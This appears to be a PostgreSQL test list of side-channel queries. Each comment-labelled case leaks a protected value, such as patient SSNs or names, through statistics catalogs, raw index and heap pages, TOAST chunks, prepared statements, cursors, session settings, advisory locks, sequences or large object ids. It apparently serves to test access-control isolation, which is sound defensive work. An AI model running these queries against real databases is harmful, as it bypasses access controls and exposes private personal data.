-- pg_stats
SELECT attname, most_common_vals, histogram_bounds FROM pg_stats WHERE schemaname = 'clinic' AND tablename = 'patients'
-- pg_stats as text
SELECT histogram_bounds::text FROM pg_stats WHERE tablename = 'patients'
-- pg_stats unnested
SELECT unnest(histogram_bounds::text::text[]) FROM pg_stats WHERE tablename = 'patients' AND attname = 'ssn'
-- pg_statistic
SELECT stavalues1, stavalues2, stavalues3 FROM pg_statistic WHERE starelid = 'clinic.patients'::regclass
-- pg_statistic as a row
SELECT s FROM pg_statistic s WHERE starelid = 'clinic.patients'::regclass
-- a copy of pg_statistic
CREATE TEMP TABLE t AS SELECT stavalues1::text AS a, stavalues2::text AS b FROM pg_statistic WHERE starelid = 'clinic.patients'::regclass
SELECT * FROM t
-- extended statistics
CREATE STATISTICS $V.s (mcv) ON secret, code FROM $V.victim
INSERT INTO $V.victim SELECT g + 100, secret, 'one', 1 FROM $V.victim, generate_series(1, 60) g WHERE id = 2
ANALYZE $V.victim
SELECT most_common_vals FROM pg_stats_ext
-- extended statistics, raw
CREATE STATISTICS $V.s (mcv) ON secret, code FROM $V.victim
INSERT INTO $V.victim SELECT g + 100, secret, 'one', 1 FROM $V.victim, generate_series(1, 60) g WHERE id = 2
ANALYZE $V.victim
SELECT stxdmcv FROM pg_statistic_ext_data
-- extended statistics, by function
CREATE STATISTICS $V.s (mcv) ON secret, code FROM $V.victim
INSERT INTO $V.victim SELECT g + 100, secret, 'one', 1 FROM $V.victim, generate_series(1, 60) g WHERE id = 2
ANALYZE $V.victim
SELECT m.values FROM pg_statistic_ext_data d, pg_mcv_list_items(d.stxdmcv) m
-- statistics over an expression
CREATE STATISTICS $V.s ON (lower(secret)) FROM $V.victim
INSERT INTO $V.victim SELECT g + 100, secret, 'one', 1 FROM $V.victim, generate_series(1, 60) g WHERE id = 2
ANALYZE $V.victim
SELECT most_common_vals FROM pg_stats_ext_exprs
-- statistics of an index
CREATE INDEX by_word ON $V.victim ((reverse(secret)))
ANALYZE $V.victim
SELECT histogram_bounds FROM pg_stats WHERE tablename = 'by_word'
-- statistics of a materialized view
SELECT histogram_bounds FROM pg_stats WHERE tablename = 'name_cache'
-- pages of an index
SELECT encode(decode(replace(data, ' ', ''), 'hex'), 'escape') FROM bt_page_items('clinic.patients_ssn_key', 1)
-- pages of a table
SELECT t_data FROM heap_page_items(get_raw_page('clinic.patients', 0))
-- a raw page
SELECT get_raw_page('clinic.users', 0)
-- toast
SELECT convert_from(chunk_data, 'UTF8') FROM (SELECT 'x'::bytea AS chunk_data) x WHERE false
DO $$ BEGIN EXECUTE format('CREATE TEMP VIEW big AS SELECT chunk_data FROM %s', (SELECT reltoastrelid::regclass FROM pg_class WHERE oid = 'clinic.kv_store'::regclass)); END $$
SELECT chunk_data FROM big
-- a cached plan's text
PREPARE keep AS SELECT 1
DO $$ BEGIN EXECUTE format('PREPARE q AS SELECT %L::text AS c', (SELECT full_name FROM clinic.patients WHERE id = 2)); END $$
SELECT statement FROM pg_prepared_statements
-- a cached plan's text in memory contexts
DO $$ BEGIN EXECUTE format('PREPARE q AS SELECT %L::text AS c', (SELECT full_name FROM clinic.patients WHERE id = 2)); END $$
SELECT ident FROM pg_backend_memory_contexts WHERE ident IS NOT NULL
-- pg_cursors
BEGIN
DO $$ DECLARE c refcursor := 'cc'; BEGIN OPEN c FOR EXECUTE format('SELECT %L', (SELECT full_name FROM clinic.patients WHERE id = 2)); END $$
SELECT statement FROM pg_cursors
-- the name of a cursor
BEGIN
DO $$ DECLARE c refcursor := (SELECT full_name FROM clinic.patients WHERE id = 2); BEGIN OPEN c FOR SELECT 1; END $$
SELECT name FROM pg_cursors
-- pg_stat_activity
DO $$ BEGIN PERFORM set_config('application_name', (SELECT full_name FROM clinic.patients WHERE id = 2), false); END $$
SELECT application_name FROM pg_stat_activity
-- pg_stat_get_activity
DO $$ BEGIN PERFORM set_config('application_name', (SELECT full_name FROM clinic.patients WHERE id = 2), false); END $$
SELECT application_name FROM pg_stat_get_activity(NULL)
-- advisory locks by function
SELECT pg_try_advisory_lock(0, replace(ssn, '-', '')::int) FROM clinic.patients
SELECT objid FROM pg_lock_status() WHERE locktype = 'advisory'
-- a sequence by currval
SELECT setval('$V.seq', replace(secret, '-', '')::bigint) FROM $V.victim WHERE id = 1
SELECT currval('$V.seq'), lastval()
-- advisory locks
SELECT pg_advisory_lock(replace(ssn, '-', '')::bigint) FROM clinic.patients
SELECT objid FROM pg_locks WHERE locktype = 'advisory'
-- advisory locks in a WHERE
SELECT count(*) FROM clinic.patients WHERE pg_try_advisory_xact_lock(replace(ssn, '-', '')::bigint)
BEGIN
SELECT count(*) FROM clinic.patients WHERE pg_try_advisory_xact_lock(replace(ssn, '-', '')::bigint)
SELECT objid FROM pg_locks WHERE locktype = 'advisory'
-- a prepared transaction's name is the client's, a sequence's value is not
SELECT setval('$V.seq', replace(secret, '-', '')::bigint) FROM $V.victim WHERE id = 1
SELECT last_value FROM $V.seq
-- a sequence by its view
SELECT setval('$V.seq', replace(secret, '-', '')::bigint) FROM $V.victim WHERE id = 1
SELECT last_value FROM pg_sequences WHERE schemaname = '$V'
-- a sequence by nextval
SELECT setval('$V.seq', replace(secret, '-', '')::bigint, false) FROM $V.victim WHERE id = 1
SELECT nextval('$V.seq')
-- a sequence in another session
SELECT setval('$V.seq', replace(secret, '-', '')::bigint) FROM $V.victim WHERE id = 1
\connect
SELECT last_value FROM $V.seq
-- a sequence by function in another session
SELECT setval('$V.seq', replace(secret, '-', '')::bigint) FROM $V.victim WHERE id = 1
\connect
SELECT pg_sequence_last_value('$V.seq'::regclass)
-- a sequence's default in another session
SELECT setval('$V.seq', replace(secret, '-', '')::bigint, false) FROM $V.victim WHERE id = 1
\connect
INSERT INTO $V.scratch (id, n) VALUES (40, nextval('$V.seq')) RETURNING n
-- the id of a large object
SELECT lo_create(replace(secret, '-', '')::oid) FROM $V.victim WHERE id = 1
SELECT oid FROM pg_largeobject_metadata
-- the id of a large object in another session
SELECT lo_create(replace(secret, '-', '')::oid) FROM $V.victim WHERE id = 1
\connect
SELECT oid FROM pg_largeobject_metadata
-- a function's value in a sequence of the session
CREATE TEMP SEQUENCE q
SELECT setval('q', replace(clinic.patient_ssn(1), '-', '')::int)
SELECT last_value FROM q
-- a function's value in a sequence
SELECT setval('$V.seq', replace(clinic.patient_ssn(1), '-', '')::int)
SELECT last_value FROM $V.seq
-- a function's value in a sequence, for another session
CREATE TEMP TABLE d (a int, b int8 DEFAULT setval('$V.seq', replace(clinic.patient_ssn(1), '-', '')::int))
INSERT INTO d (a) VALUES (1)
\connect
SELECT last_value FROM $V.seq
-- a function's value as an advisory lock
SELECT pg_try_advisory_lock(replace(clinic.patient_ssn(1), '-', '')::int)
SELECT objid FROM pg_locks WHERE locktype = 'advisory'
-- a function's value as the id of a large object
SELECT lo_create(replace(clinic.patient_ssn(2), '-', '')::oid)
SELECT oid FROM pg_largeobject_metadata
